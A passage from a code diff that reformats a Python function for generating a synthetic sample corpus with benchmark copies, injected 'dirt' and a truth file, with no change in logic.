+    "benchmark",
+    "sft",
+    "truth.parquet",
+    "corpus.json",
+)
 
 
 def _prepare_out(out: Path) -> None:
@@ -2426,8 +3210,10 @@ def _prepare_out(out: Path) -> None:
     if out.exists():
         foreign = sorted(p.name for p in out.iterdir() if p.name not in _LAYOUT_TOP)
         if foreign:
-            raise FileExistsError(f"{out} holds files that are not part of a sample corpus "
-                                  f"({', '.join(foreign[:3])}); refusing to overwrite it")
+            raise FileExistsError(
+                f"{out} holds files that are not part of a sample corpus "
+                f"({', '.join(foreign[:3])}); refusing to overwrite it"
+            )
         for name in _LAYOUT_TOP:
             path = out / name
             if path.is_dir():
@@ -2466,12 +3252,15 @@ def write_sample_corpus(
     if not 1 <= shard_rows <= KEY_STRIDE:
         raise ValueError(f"shard_rows must be in 1..{KEY_STRIDE} (keys are shard*{KEY_STRIDE}+row)")
     if not 0 <= benchmark_rate <= 0.5:
-        raise ValueError("benchmark_rate must be in 0..0.5 (share of rows per source holding a benchmark copy)")
+        raise ValueError(
+            "benchmark_rate must be in 0..0.5 (share of rows per source holding a benchmark copy)"
+        )
     out = Path(out)
     _prepare_out(out)
     spec = CorpusSpec.make(rows, seed, shard_rows, benchmark_rate)
-    canonical = [("benchmark", 0), ("benchmark_video", 0)] + [(src, sh) for src in SOURCES
-                                                              for sh in range(spec.n_shards(src))]
+    canonical = [("benchmark", 0), ("benchmark_video", 0)] + [
+        (src, sh) for src in SOURCES for sh in range(spec.n_shards(src))
+    ]
     tasks = [(str(out), spec, src, sh) for src, sh in canonical]
     position = {key: k for k, key in enumerate(canonical)}
     n_workers = max(1, min(workers or os.cpu_count() or 1, len(tasks)))
@@ -2516,15 +3305,22 @@ def write_sample_corpus(
             pool.join()
     elapsed = time.perf_counter() - started
     sft_truth = [row for res in sft_results for row in res.truth]
-    pq.write_table(pa.Table.from_pylist([dict(zip(SFT_TRUTH_SCHEMA.names, row)) for row in sft_truth],
-                                        schema=SFT_TRUTH_SCHEMA), out / "sft/truth.parquet")
+    pq.write_table(
+        pa.Table.from_pylist(
+            [dict(zip(SFT_TRUTH_SCHEMA.names, row)) for row in sft_truth], schema=SFT_TRUTH_SCHEMA
+        ),
+        out / "sft/truth.parquet",
+    )
     files += [f for res in sft_results for f in res.files] + ["sft/truth.parquet"]
 
     totals = Counter()
     for counter in dirt_by_source.values():
         totals.update(counter)
-    image_dirs = {"image_text/jsonl": "image_text/jsonl/images", "interleaved": "interleaved/images",
-                  "benchmark": "benchmark/images"}
+    image_dirs = {
+        "image_text/jsonl": "image_text/jsonl/images",
+        "interleaved": "interleaved/images",
+        "benchmark": "benchmark/images",
+    }
     summary = {
         "format": FORMAT,
         "rows": rows,
@@ -2533,11 +3329,18 @@ def write_sample_corpus(
         "sources": {src: spec.n(src) for src in SOURCES},
         "shards": {src: spec.n_shards(src) for src in SOURCES},
         "dirt": {kind: totals[kind] for kind in ALL_DIRT_KINDS},
-        "dirt_by_source": {src: {k: c[k] for k in ALL_DIRT_KINDS if c[k]} for src, c in dirt_by_source.items()},
-        "benchmark": {"items": spec.bench_items, "parquet": "benchmark/vqa.parquet",
-                      "jsonl": "benchmark/vqa.jsonl", "qa_jsonl": "benchmark/qa.jsonl",
-                      "video_jsonl": "benchmark/video_qa.jsonl", "videos": spec.bench_videos,
-                      "rate": benchmark_rate},
+        "dirt_by_source": {
+            src: {k: c[k] for k in ALL_DIRT_KINDS if c[k]} for src, c in dirt_by_source.items()
+        },
+        "benchmark": {
+            "items": spec.bench_items,
+            "parquet": "benchmark/vqa.parquet",
+            "jsonl": "benchmark/vqa.jsonl",
+            "qa_jsonl": "benchmark/qa.jsonl",
+            "video_jsonl": "benchmark/video_qa.jsonl",
+            "videos": spec.bench_videos,
+            "rate": benchmark_rate,
+        },
         "truth": "truth.parquet",
         "files": sorted(files + ["truth.parquet"]),
         "image_files": {image_dirs[d]: images[d] for d in sorted(image_dirs)},
@@ -2552,8 +3355,14 @@ def write_sample_corpus(
         },
     }
     (out / "corpus.json").write_text(json.dumps(summary, indent=2) + "\n", encoding="utf-8")
-    logger.info("sample corpus: %d rows, %d files in %.1fs (%.0f rows/s) -> %s",
-                rows, len(files), elapsed, rows / elapsed if elapsed else float("inf"), out)
+    logger.info(
+        "sample corpus: %d rows, %d files in %.1fs (%.0f rows/s) -> %s",
+        rows,
+        len(files),
+        elapsed,
+        rows / elapsed if elapsed else float("inf"),
+        out,
+    )
     return summary
 
 
